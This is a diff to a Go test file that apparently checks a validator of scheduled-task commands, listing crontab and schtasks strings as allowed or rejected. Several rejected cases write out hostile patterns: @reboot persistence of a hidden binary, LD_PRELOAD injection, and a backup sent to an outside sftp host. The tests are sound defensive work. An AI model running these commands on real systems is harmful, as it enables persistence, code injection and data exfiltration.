@@ -58,6 +58,12 @@ func TestLocalCommand(t *testing.T) {
 		{`echo '@daily /usr/bin/find ~/Downloads -mtime +30 -delete' | crontab -`, true},
 		{`(crontab -l; echo "0 7 * * 1 /usr/bin/find $HOME/Downloads -mtime +30 -delete") | crontab -`, true},
 		{`(crontab -l; echo "@reboot $HOME/.cache/.x/run") | crontab -`, false},
+		{`(crontab -l 2>/dev/null; echo "30 2 * * * RESTIC_PASSWORD_FILE=$HOME/.config/restic/pw restic -r /mnt/backup/restic backup $HOME/Documents --quiet") | crontab -`, true},
+		{`(crontab -l; echo "30 2 * * * RESTIC_PASSWORD_COMMAND=$HOME/bin/pw restic backup $HOME/Documents") | crontab -`, false},
+		{`(crontab -l; echo "30 2 * * * RESTIC_PASSWORD_FILE=$HOME/.config/.x/pw restic backup $HOME/Documents") | crontab -`, false},
+		{`(crontab -l; echo "30 2 * * * LD_PRELOAD=$HOME/lib/x.so restic backup $HOME/Documents") | crontab -`, false},
+		{`(crontab -l; echo "30 2 * * * RESTIC_REPOSITORY=sftp://u@203.0.113.7/r restic backup $HOME/Documents") | crontab -`, false},
+		{`(crontab -l; echo "30 2 * * * BORG_RSH=ssh borg create r::a $HOME/Documents") | crontab -`, false},
 		{`(crontab -l; echo "@reboot ${HOME:-/tmp}/run") | crontab -`, false},
 		{`schtasks /create /tn Clean /tr "C:\Windows\System32\cleanmgr.exe /sagerun:1" /sc weekly`, true},
 		// Fetched, decoded, inline code, a path, the background, a
